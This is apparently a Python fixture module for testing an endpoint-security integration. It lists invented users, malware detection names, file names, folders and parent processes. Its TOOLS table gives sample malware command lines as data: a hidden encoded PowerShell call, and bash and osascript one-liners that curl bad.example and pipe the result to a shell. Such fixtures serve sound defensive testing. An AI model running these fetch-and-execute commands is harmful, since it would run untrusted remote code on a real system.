# SPDX-FileCopyrightText: 2026 The ampops.secure_endpoint contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""The people, files and detections that events and sightings name; all of them invented."""

from __future__ import annotations

USERS = ("m.keller", "s.okafor", "CORP\\a.lindqvist", "t.nguyen@corp.example", "Not Available", "root", "j.doe")

DETECTIONS = (
    "W32.Simulated.Loader",
    "Win.Ransomware.Tidepool::tpd",
    "Simulated-Test-Signature",
    "Auto.9C41F0.Feather.in07",
    'PUA.Win.Adware."Quoted Name"',
    "Linux.Miner.Copperhead",
    "Osx.Downloader.Driftwood",
)

# What runs where: files, programs that start others, scripting tools, by product. A phone has what a Linux has.
FILES = {
    "windows": (
        "invoice_7731.exe",
        "updater.dll",
        "readme.scr",
        "holiday photos.zip",
        "setup (1).exe",
        "héllo wörld.js",
    ),
    "mac": ("Installer (1).pkg", "holiday photos.zip", "updater.dylib", "héllo wörld.js", "a.out"),
    "linux": ("a.out", "updater.so", "holiday photos.zip", "setup (1).sh", "héllo wörld.js"),
}
FOLDERS = {
    "windows": (
        "\\\\?\\C:\\Users\\Public\\Downloads\\",
        "/C:/Windows/Temp/",
        "/c:/windows/temp/",
        "file:///C%3A/ProgramData/",
    ),
    "mac": ("/Users/shared/", "/Users/j.doe/Downloads/", "file:///Users/shared/"),
    "linux": ("/home/j.doe/", "/var/tmp/", "file:///var/tmp/"),  # noqa: S108  names in events, nothing is written
}
PARENTS = {
    "windows": ("explorer.exe", "outlook.exe", "winword.exe", "services.exe"),
    "mac": ("Finder", "Safari", "launchd"),
    "linux": ("bash", "systemd", "sshd"),
}
TOOLS: dict[str, tuple[str, ...]] = {  # a tool of the system, and how malware calls it
    "windows": ("powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA"),
    "mac": ("osascript", "osascript -e 'do shell script \"curl -s http://bad.example/drop\"'"),
    "linux": ("bash", "bash -c 'curl -s http://bad.example/drop | sh'"),
}


def of_product(table: dict[str, tuple[str, ...]], product: str) -> tuple[str, ...]:
    """Return the words of a product."""
    return table.get(product, table["linux"])
